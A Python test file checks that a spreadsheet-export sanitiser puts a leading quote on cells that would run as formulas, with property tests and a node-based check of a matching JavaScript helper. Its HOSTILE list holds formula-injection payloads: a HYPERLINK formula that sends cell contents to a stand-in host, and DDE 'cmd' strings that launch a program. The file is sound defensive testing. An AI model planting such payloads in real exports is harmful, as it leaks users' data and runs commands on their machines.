"""Export cells a spreadsheet will not run as a formula (pure, no frappe); the desk's JavaScript
helper (public/js/export_cells.js) is checked against the same rule through node when it is there."""

import json
import os
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dux_trace.core.export_cells import FORMULA_STARTS, safe_cell, safe_rows

JS_HELPER = os.path.join(os.path.dirname(__file__), "..", "dux_trace", "public", "js", "export_cells.js")

HOSTILE = [
	'=HYPERLINK("http://x.invalid/?"&A1,"Details")',
	"=1+1",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1,1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1",
	"  =1+1",
	"\uff1dSUM(A1)",
	"+212 6 12 34 56 78 =A1",
	"-A1",
	"+33 6 12 34 56 78;=1",
]
KEPT = [
	"+212 6 12 34 56 78",
	"+33 (0)6 12 34 56 78",
	"+1-555-123-4567",
	"0612345678",
	"-3",
	"+2.5",
	"Karim Benali",
	"karim@example.ma",
	"Épicerie = centre",
	"",
	"a=1",
]


def test_cells_that_would_run_get_a_leading_quote():
	for value in HOSTILE:
		assert safe_cell(value) == "'" + value, value


def test_phone_numbers_numbers_and_text_stay_as_written():
	for value in KEPT:
		assert safe_cell(value) == value, value
	assert safe_cell(12) == 12
	assert safe_cell(None) is None
	assert safe_rows([["=1", 2, "+212 6 12 34 56 78"]]) == [["'=1", 2, "+212 6 12 34 56 78"]]


@given(
	st.sampled_from(["=", "+", "-", "@", "\t", "\r"]),
	st.text(alphabet=st.characters(min_codepoint=0x41, max_codepoint=0x7A), min_size=1),
)
def test_a_letter_after_a_formula_sign_is_always_neutralised(sign, text):
	assert safe_cell(sign + text).startswith("'")


@given(st.text(max_size=30))
def test_no_output_starts_a_formula_unless_it_is_a_number_or_a_phone(value):
	out = safe_cell(value)
	if out.lstrip(" ").startswith(FORMULA_STARTS):
		assert out == value
		assert set(value[1:]) <= set("0123456789 .()-")


@pytest.mark.skipif(not shutil.which("node"), reason="node is not installed")
@settings(max_examples=1, deadline=None)  # one run of node, whose start-up a loaded machine slows
@given(st.lists(st.text(max_size=25), min_size=50, max_size=50))
def test_the_desk_helper_applies_the_same_rule(generated):
	cases = HOSTILE + KEPT + generated + ["\u2028=1", "  +212 6", " 5", "-", "+"]
	script = (
		f"const h = require({json.dumps(os.path.abspath(JS_HELPER))});"
		"let s = ''; process.stdin.on('data', (d) => (s += d));"
		"process.stdin.on('end', () => console.log(JSON.stringify(JSON.parse(s).map(h.safe_cell))));"
	)
	out = subprocess.run(
		["node", "-e", script], input=json.dumps(cases), capture_output=True, text=True, check=True
	).stdout
	assert json.loads(out) == [safe_cell(case) for case in cases]
